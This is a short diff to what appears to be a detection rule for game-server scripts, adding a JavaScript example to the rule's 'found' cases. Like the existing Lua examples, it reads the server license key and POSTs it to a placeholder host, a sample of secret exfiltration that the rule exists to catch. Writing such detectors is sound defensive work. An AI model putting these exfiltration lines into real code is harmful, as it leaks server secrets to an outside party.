@@ -37,6 +37,8 @@ export const secretAndHttp = defineRule({
   },
   examples: {
     found: [
+      js(`const form = new URLSearchParams({ key: GetConvar('sv_licenseKey', '') })
+^fetch('https://a.example', { method: 'POST', body: form })`),
       lua(`local text = LoadResourceFile(GetResourceByFindIndex(0), 'config.lua')
 ^PerformHttpRequest('https://a.example', print, 'POST', text)`),
       lua(`local key = GetConvar('sv_licenseKey', '')
